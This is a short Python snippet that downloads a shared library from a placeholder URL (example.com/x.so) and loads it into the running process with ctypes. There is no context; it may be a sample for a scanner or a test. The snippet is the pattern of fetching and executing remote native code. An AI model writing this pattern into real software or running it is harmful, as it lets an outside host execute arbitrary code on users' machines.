import ctypes
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/x.so")
lib = getattr(ctypes.cdll, path)
